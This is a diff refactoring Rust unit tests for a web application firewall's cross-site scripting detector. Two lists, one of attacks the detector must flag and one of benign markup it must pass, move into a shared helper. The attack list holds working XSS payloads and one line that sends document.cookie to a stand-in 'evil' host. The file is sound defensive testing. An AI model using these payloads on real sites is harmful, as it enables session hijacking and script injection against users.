@@ -456,68 +456,63 @@ fn lowercase(bytes: &[u8]) -> Vec<u8> {
 #[cfg(test)]
 mod tests {
     use super::*;
-
-    fn score(value: &str) -> u8 {
-        inspect(value).map_or(0, |hit| hit.score)
-    }
+    use crate::waf::testing;
 
     #[test]
     fn script_in_every_context_is_found() {
-        let missed: Vec<_> = [
-            "<script>alert(1)</script>",
-            "<img src=x onerror=alert(1)>",
-            "<svg/onload=alert(1)>",
-            "<a href=\"javascript:alert(1)\">x</a>",
-            "<a href=\"&#106;avascript:alert(1)\">x</a>",
-            "<a href=\"java\tscript:alert(1)\">x</a>",
-            "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
-            "\"><script>alert(1)</script>",
-            "\" onmouseover=\"alert(1)",
-            "' onfocus='alert(1)' autofocus='",
-            "x onmouseover=alert(1)",
-            "javascript:alert(document.cookie)",
-            "  JaVaScRiPt:alert(1)",
-            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
-            "';alert(1);//",
-            "'-alert(1)-'",
-            "\";document.location='http://evil/?c='+document.cookie;//",
-            "<body onload=alert(1)>",
-            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-            "<object data=\"javascript:alert(1)\">",
-            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
-            "<div style=\"width: expression(alert(1))\">",
-            "<svg><animate attributeName=href values=javascript:alert(1) />",
-            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
-        ]
-        .into_iter()
-        .filter(|attack| score(attack) < 5)
-        .map(|attack| format!("{attack}: {:?}", inspect(attack)))
-        .collect();
-        assert!(missed.is_empty(), "missed:\n{}", missed.join("\n"));
+        testing::assert_all(
+            inspect,
+            &[
+                "<script>alert(1)</script>",
+                "<img src=x onerror=alert(1)>",
+                "<svg/onload=alert(1)>",
+                "<a href=\"javascript:alert(1)\">x</a>",
+                "<a href=\"&#106;avascript:alert(1)\">x</a>",
+                "<a href=\"java\tscript:alert(1)\">x</a>",
+                "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
+                "\"><script>alert(1)</script>",
+                "\" onmouseover=\"alert(1)",
+                "' onfocus='alert(1)' autofocus='",
+                "x onmouseover=alert(1)",
+                "javascript:alert(document.cookie)",
+                "  JaVaScRiPt:alert(1)",
+                "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+                "';alert(1);//",
+                "'-alert(1)-'",
+                "\";document.location='http://evil/?c='+document.cookie;//",
+                "<body onload=alert(1)>",
+                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+                "<object data=\"javascript:alert(1)\">",
+                "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+                "<div style=\"width: expression(alert(1))\">",
+                "<svg><animate attributeName=href values=javascript:alert(1) />",
+                "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
+            ],
+            true,
+        );
     }
 
     #[test]
     fn editor_markup_and_prose_pass() {
-        let blocked: Vec<_> = [
-            "<p>Hello <strong>world</strong></p>",
-            "<a href=\"https://example.com/page?a=1&b=2\">a link</a>",
-            "<img src=\"/images/cat.png\" alt=\"A cat\">",
-            "<ul><li>one</li><li>two</li></ul><blockquote>quote</blockquote>",
-            "<p>How to use the &lt;script&gt; tag</p>",
-            "I <3 cats & dogs > birds",
-            "javascript: the good parts",
-            "He said \"onward and upward\"",
-            "It's 5 o'clock; time (for tea)",
-            "x = \"a\" + b",
-            "<p><textarea><b onclick=x></textarea></p>",
-            "<h2 class=\"title\" id=\"intro\">Intro</h2>",
-            "5 > 3 and 2 < 4",
-            "alert() is blocking; use a modal instead",
-        ]
-        .into_iter()
-        .filter(|benign| score(benign) >= 5)
-        .map(|benign| format!("{benign}: {:?}", inspect(benign)))
-        .collect();
-        assert!(blocked.is_empty(), "blocked:\n{}", blocked.join("\n"));
+        testing::assert_all(
+            inspect,
+            &[
+                "<p>Hello <strong>world</strong></p>",
+                "<a href=\"https://example.com/page?a=1&b=2\">a link</a>",
+                "<img src=\"/images/cat.png\" alt=\"A cat\">",
+                "<ul><li>one</li><li>two</li></ul><blockquote>quote</blockquote>",
+                "<p>How to use the &lt;script&gt; tag</p>",
+                "I <3 cats & dogs > birds",
+                "javascript: the good parts",
+                "He said \"onward and upward\"",
+                "It's 5 o'clock; time (for tea)",
+                "x = \"a\" + b",
+                "<p><textarea><b onclick=x></textarea></p>",
+                "<h2 class=\"title\" id=\"intro\">Intro</h2>",
+                "5 > 3 and 2 < 4",
+                "alert() is blocking; use a modal instead",
+            ],
+            false,
+        );
     }
 }
